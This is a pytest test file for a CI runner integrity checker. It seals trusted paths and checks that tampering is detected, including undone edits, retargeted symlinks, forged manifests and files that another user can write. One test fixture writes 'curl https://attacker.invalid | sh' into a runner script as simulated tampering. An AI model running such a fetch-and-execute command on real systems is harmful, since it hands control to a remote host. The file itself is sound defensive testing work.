"""integrity.py: sealing the trusted paths and finding every change, even one undone."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from qnn_migrate.bot.lab import integrity


def trusted(tmp_path: Path) -> Path:
    root = tmp_path / "actions-runner"
    (root / "bin").mkdir(parents=True)
    (root / "run.sh").write_text("#!/bin/sh\n")
    (root / "bin" / "Runner.Listener").write_text("binary\n")
    (root / "latest").symlink_to("bin")
    return root


def test_an_untouched_host_verifies_clean(tmp_path: Path) -> None:
    root = trusted(tmp_path)
    manifest = tmp_path / "seal" / "manifest.json"
    assert integrity.seal([str(root)], manifest) == 5
    assert integrity.verify(manifest, [str(root)]) == []


def test_a_change_restored_with_its_old_times_is_still_found(tmp_path: Path) -> None:
    root = trusted(tmp_path)
    manifest = tmp_path / "manifest.json"
    integrity.seal([str(root)], manifest)
    script = root / "run.sh"
    before = script.stat()
    script.write_text("#!/bin/sh\n")  # same bytes, same size
    os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns))  # modification time put back
    assert integrity.verify(manifest, [str(root)]) == [f"changed: {script}"]


def test_added_removed_and_retargeted_entries_are_found(tmp_path: Path) -> None:
    root = trusted(tmp_path)
    manifest = tmp_path / "manifest.json"
    integrity.seal([str(root)], manifest)
    (root / "bin" / "Runner.Listener").unlink()
    (root / ".pth-like").write_text("import os\n")
    (root / "latest").unlink()
    (root / "latest").symlink_to("/tmp")
    found = integrity.verify(manifest, [str(root)])
    assert f"removed: {root / 'bin' / 'Runner.Listener'}" in found
    assert f"added: {root / '.pth-like'}" in found
    assert f"changed: {root / 'latest'}" in found


def test_a_missing_or_forged_manifest_is_a_finding_and_seal_names_a_missing_path(
    tmp_path: Path,
) -> None:
    assert integrity.verify(tmp_path / "none.json", [])[0].startswith("no readable sealed manifest")
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps({"version": 99}))
    assert "not a sealed manifest" in integrity.verify(forged, [])[0]
    with pytest.raises(integrity.IntegrityError, match="no such path"):
        integrity.seal([str(tmp_path / "nowhere")], tmp_path / "m.json")
    assert integrity.summary([f"added: /x{i}" for i in range(15)]).endswith("; and 3 more")


def test_the_roots_are_the_host_configs_not_the_manifests(tmp_path: Path) -> None:
    """A manifest a job rewrote to seal nothing (``"roots": []``) verified clean: the roots
    came from the manifest itself."""
    root = trusted(tmp_path)
    manifest = tmp_path / "manifest.json"
    integrity.seal([str(root)], manifest)
    manifest.write_text(json.dumps({"version": 1, "roots": [], "entries": {}}))
    (root / "run.sh").write_text("curl https://attacker.invalid | sh\n")
    found = integrity.verify(manifest, [str(root)])
    assert len(found) == 1 and "sealed nothing, but the host config trusts" in found[0]
    # The control: checked against the roots the manifest names, it reads clean.
    assert integrity.verify(manifest, []) == []


def test_a_trusted_path_that_is_a_link_seals_what_it_names(tmp_path: Path) -> None:
    real = tmp_path / "python3.11"
    (real / "lib").mkdir(parents=True)
    (real / "lib" / "site.py").write_text("# the interpreter's own\n")
    link = tmp_path / "python3"
    link.symlink_to(real)
    manifest = tmp_path / "manifest.json"
    integrity.seal([str(link)], manifest)
    assert integrity.verify(manifest, [str(link)]) == []
    (real / "lib" / "sitecustomize.py").write_text("import os\n")
    assert f"added: {real / 'lib' / 'sitecustomize.py'}" in integrity.verify(manifest, [str(link)])


def test_replaceable_by_finds_every_way_a_user_can_change_a_file(tmp_path: Path) -> None:
    uid, gid = 54321, 54322  # a user and group nothing here has: ownership is set by hand
    top = tmp_path / "etc"
    top.mkdir(mode=0o755)
    top.chmod(0o755)
    config = top / "qnn-runner.toml"
    config.write_text("x = 1\n")
    config.chmod(0o644)
    assert integrity.replaceable_by(config, uid, [gid]) is None  # the control: root's, 0644
    config.chmod(0o666)
    assert "is writable by uid 54321" in (integrity.replaceable_by(config, uid, [gid]) or "")
    config.chmod(0o664)
    os.chown(config, 0, gid)
    assert integrity.replaceable_by(config, uid, [gid]) is not None  # group-writable, its group
    assert integrity.replaceable_by(config, uid, []) is None
    config.chmod(0o644)
    os.chown(config, uid, 0)
    assert integrity.replaceable_by(config, uid, []) is not None  # an owner can chmod
    os.chown(config, 0, 0)
    top.chmod(0o777)
    assert "on the way to" in (integrity.replaceable_by(config, uid, []) or "")
    top.chmod(0o1777)  # sticky, as /tmp: another user's entry cannot be renamed
    assert integrity.replaceable_by(config, uid, []) is None
    os.chown(top, uid, 0)
    assert integrity.replaceable_by(config, uid, []) is not None  # its own sticky folder
